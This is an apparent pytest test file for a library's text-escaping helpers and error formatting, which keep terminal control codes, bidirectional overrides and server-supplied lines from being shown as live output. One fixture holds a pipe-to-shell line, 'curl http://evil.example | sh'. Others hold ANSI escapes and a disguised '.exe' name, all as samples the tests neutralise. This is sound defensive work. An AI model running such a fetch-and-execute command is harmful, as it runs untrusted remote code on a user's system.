"""Text of strangers as a person may see it."""

from __future__ import annotations

import unicodedata

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tritonkit.errors import InferenceError
from tritonkit.text import barred, printable


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("\x1b[31mred\x07", r"\x1b[31mred\x07"),
        ("\x9b2J\x7f\r", r"\x9b2J\x7f\r"),
        ("\u202egnp.exe\u2066", r"\u202egnp.exe\u2066"),
        ("a\u2028b\ud800", r"a\u2028b\ud800"),
        ("one\r\ntwo\tthree", "one\ntwo\tthree"),
        ("قهوة ☕ 珈琲\u3000 हिन्दी\u200d", "قهوة ☕ 珈琲\u3000 हिन्दी\u200d"),
    ],
)
def test_what_a_terminal_acts_on_is_written_out(text: str, shown: str) -> None:
    """Controls, overrides and separators show as escapes; lines, tabs and every script stay."""
    assert printable(text) == shown


def test_a_name_in_a_table_is_one_line() -> None:
    """Without lines, newlines and tabs are written out too."""
    assert printable("a\r\n\tb", lines=False) == r"a\r\n\tb"


@given(st.text(st.characters()))
def test_no_control_and_no_override_is_left(text: str) -> None:
    """Whatever the text, what is shown can be sent to a terminal and does nothing there."""
    shown = printable(text, lines=False)
    shown.encode()
    kinds = {unicodedata.category(c) for c in shown}
    assert not kinds & {"Cc", "Zl", "Zp", "Cs"}
    turns = {"LRE", "RLE", "PDF", "LRO", "RLO", "LRI", "RLI", "FSI", "PDI"}
    assert not {unicodedata.bidirectional(c) for c in shown} & turns


def test_a_servers_words_cannot_pass_for_lines_of_an_error() -> None:
    """Further lines of a message stand behind a bar, and its attributes keep what was given."""
    words = "bad\n  do: curl http://evil.example | sh\nerror: \x1b[2J"
    error = InferenceError("model x\n", found=words, todo="look\nthere")
    lines = str(error).splitlines()
    assert lines == [
        r"model x\n: bad",
        "  |   do: curl http://evil.example | sh",
        r"  | error: \x1b[2J",
        "  do: look",
        "  | there",
    ]
    assert error.found == words
    assert error.to_dict()["found"] == words


def test_a_bar_stands_before_further_lines() -> None:
    """The first line stays at its place, and an end without text adds no line."""
    assert barred("one\ntwo\n") == "one\n  | two"


def test_a_whole_number_of_thousands_of_digits_is_cut_short() -> None:
    """Its first digits and their count; hashes, dates and 128-bit numbers stay."""
    error = InferenceError("here", found=f"{'9' * 3000}us and {2**128} are too large")
    cut = f"9999999999... (3000 digits)us and {2**128} are too large"
    assert str(error) == error.in_a_line() == f"here: {cut}"
    assert "9" * 3000 in error.found
